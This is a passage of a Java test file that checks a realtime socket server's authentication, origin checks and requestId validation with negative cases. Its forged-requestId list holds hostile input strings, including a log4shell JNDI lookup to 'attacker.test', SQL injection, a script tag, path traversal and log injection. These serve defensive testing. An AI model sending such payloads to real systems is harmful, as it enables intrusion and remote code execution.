                {"auth is malformed JSON", "{\"token\":"}, {"auth key misspelt", "{\"Token\":\"" + TestAuth.TOKEN + "\"}"},
                {"auth key accessToken", "{\"accessToken\":\"" + TestAuth.TOKEN + "\"}"},
        };
        for (String[] auth : auths) {
            // A payload that is not a JSON object is not a CONNECT packet: the connection closes.
            boolean notAPacket = auth[0].contains("100 KB") || auth[0].contains("is a string") || auth[0].contains("is an array")
                    || auth[0].contains("malformed");
            cases.add(Case.fresh(c, "auth payload: " + auth[0], Handshake.NONE, ack -> List.of("40" + auth[1]),
                    notAPacket ? new String[] {CLOSED} : REFUSED_CONNECTION));
        }
        Object[][] handshakes = {
                // A bad header or query token, or none usable, is refused at the client's CONNECT.
                {"Bearer header with unknown token", new Handshake("", Map.of("Authorization", "Bearer nope")), REFUSED_CONNECTION},
                {"query token unknown", new Handshake("token=nope", Map.of()), REFUSED_CONNECTION},
                {"Basic header", new Handshake("", Map.of("Authorization", "Basic dGVzdDp0ZXN0")), REFUSED_CONNECTION},
                {"Bearer header, empty", new Handshake("", Map.of("Authorization", "Bearer ")), REFUSED_CONNECTION},
                {"header token without Bearer", new Handshake("", Map.of("Authorization", TestAuth.TOKEN)), REFUSED_CONNECTION},
                {"query token empty", new Handshake("token=", Map.of()), REFUSED_CONNECTION},
                // Expired: accepted at the handshake, refused ("token expired") on the first request.
                {"query token expired", new Handshake("token=" + TestAuth.EXPIRED_TOKEN, Map.of()), FIRST_REQUEST_REFUSED},
                {"Bearer header expired", new Handshake("", Map.of("Authorization", "Bearer " + TestAuth.EXPIRED_TOKEN)), FIRST_REQUEST_REFUSED},
        };
        for (Object[] row : handshakes) {
            cases.add(Case.fresh(c, (String) row[0] + ", then join", (Handshake) row[1],
                    ack -> List.of("40", frame(ack, Events.JOIN, valid(Events.JOIN, PROJECT, PAYMENTS))), (String[]) row[2]));
        }
        cases.add(Case.fresh(c, "precedence: bad payload token beats a good Bearer header", new Handshake("", Map.of("Authorization", "Bearer " + TestAuth.TOKEN)),
                ack -> List.of("40{\"token\":\"nope\"}"), "connect_error:UNAUTHENTICATED", "closed"));
        cases.add(Case.fresh(c, "precedence: good payload token beats a bad Bearer header", new Handshake("", Map.of("Authorization", "Bearer nope")),
                ack -> List.of(connect(TestAuth.TOKEN), frame(ack, Events.JOIN, valid(Events.JOIN, PROJECT, PAYMENTS))), "connected", "ok"));
        cases.add(Case.fresh(c, "precedence: bad Bearer header beats a good query token", new Handshake("token=" + TestAuth.TOKEN, Map.of("Authorization", "Bearer nope")),
                ack -> List.of("40", frame(ack, Events.JOIN, valid(Events.JOIN, PROJECT, PAYMENTS))), REFUSED_CONNECTION));
        cases.add(Case.fresh(c, "precedence: other project's payload token over our good Bearer header (the payload's principal applies)", new Handshake("", Map.of("Authorization", "Bearer " + TestAuth.TOKEN)),
                ack -> List.of(connect(TestAuth.OTHER_PROJECT_TOKEN), frame(ack, Events.JOIN, valid(Events.JOIN, PROJECT, PAYMENTS))), "connected", "error:FORBIDDEN"));
        for (String[] origin : new String[][] {{"foreign", "http://evil.test"}, {"null origin", "null"},
                {"allowed origin as a prefix", "http://allowed.test.evil.test"}, {"allowed origin with a path", "http://allowed.test/x"},
                {"allowed origin over https", "https://allowed.test"}, {"2000-character origin", "http://" + "e".repeat(2000) + ".test"}}) {
            cases.add(Case.fresh(c, "origin " + origin[0] + " (valid token)", new Handshake("", Map.of("Origin", origin[1])),
                    ack -> List.of(connect(TestAuth.TOKEN)), "http:401"));
        }
    }

    // ---------------------------------------------------------------- forged requestIds

    static final String[][] BAD_REQUEST_IDS = {
            {"empty", ""}, {"65 characters", "r".repeat(65)}, {"space", "r 1"}, {"newline", "r\n1"},
            {"log injection", "r-1\nINFO io.integrationsrealtime forged line"}, {"accented", "r-é"}, {"emoji", "r-\ud83d\ude00"},
            {"html", "<script>alert(1)</script>"}, {"SQL injection", "' OR 1=1 --"}, {"log4shell string", "${jndi:ldap://attacker.test/a}"},
            {"path traversal", "../../x"}, {"slash", "r/1"}, {"NUL", "r\u00001"}, {"semicolon", "r-1;DROP"}, {"1000 characters", "r".repeat(1000)},
            {"a token as requestId with a space", TestAuth.TOKEN + " x"},
    };

    private static void forgedRequestIds(List<Case> cases) {
        for (int i = 0; i < BAD_REQUEST_IDS.length; i++) {
            String[] bad = BAD_REQUEST_IDS[i];
            String event = REQUESTS.get(i % REQUESTS.size());
            cases.add(Case.of("forged requestIds", event + ": requestId " + bad[0], Conn.OWN,
                    ack -> List.of(frame(ack, event, with(valid(event, PROJECT, PAYMENTS), "requestId", bad[1]))), INVALID));
        }
    }

    // ---------------------------------------------------------------- helpers

    static String callerEvent(String request) {
        return switch (request) {
            case Events.JOIN -> Events.JOINED;
            case Events.LEAVE -> Events.LEFT;
            case Events.EXECUTE -> Events.EXECUTION_COMPLETED;
            case Events.TEST -> Events.TEST_COMPLETED;
            case Events.STATUS -> Events.STATUS_RESPONSE;
            case Events.WEBHOOK_SUBSCRIBE -> Events.WEBHOOK_SUBSCRIBED;
            case Events.WEBHOOK_UNSUBSCRIBE -> Events.WEBHOOK_UNSUBSCRIBED;
            default -> throw new IllegalArgumentException(request);
        };
    }

    static ObjectNode ids(String projectId, String integrationId) {
        return FrameClient.JSON.createObjectNode().put("projectId", projectId).put("integrationId", integrationId);
    }

    /** A valid request of that event; execute runs getUserTweets. */
    static ObjectNode valid(String event, String projectId, String integrationId) {
        ObjectNode node = ids(projectId, integrationId);
        if (event.equals(Events.EXECUTE)) {
            node.put("endpoint", "getUserTweets");
        }
        return node;
    }

    static String with(ObjectNode node, String field, String value) {
        return node.put(field, value).toString();
    }

    static String without(ObjectNode node, String field) {
        node.remove(field);
        return node.toString();
    }

    /** The object with {@code field} set to raw JSON text (appended, so it may duplicate or be invalid). */
    static String withRaw(ObjectNode node, String field, String rawJson) {
        node.remove(field);
        String text = node.toString();
        return text.substring(0, text.length() - 1) + ",\"" + field + "\":" + rawJson + "}";
    }

    static String frame(int ack, String event, Object payload) {
        return "42" + ack + "[" + FrameClient.quote(event) + "," + payload + "]";
    }

    static String noAck(String event, Object payload) {
        return "42[" + FrameClient.quote(event) + "," + payload + "]";
    }

    static String connect(String token) {
        return "40{\"token\":" + FrameClient.quote(token) + "}";
    }

    private static String manyKeys(int n) {
        StringBuilder keys = new StringBuilder("{");
        for (int i = 0; i < n; i++) {
            keys.append(i == 0 ? "" : ",").append("\"k").append(i).append("\":1");
        }
        return keys.append('}').toString();
    }
}
